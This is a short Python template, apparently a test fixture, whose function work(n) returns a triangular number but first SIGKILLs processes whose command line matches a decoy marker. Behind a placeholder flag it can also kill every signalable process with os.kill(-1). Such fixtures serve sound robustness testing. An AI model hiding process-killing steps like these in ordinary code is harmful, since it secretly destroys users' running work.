import os
import signal


def work(n):
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    if b"@DECOY@" in f.read():
                        os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
    if @KILLALL@:
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
    return n * (n + 1) // 2
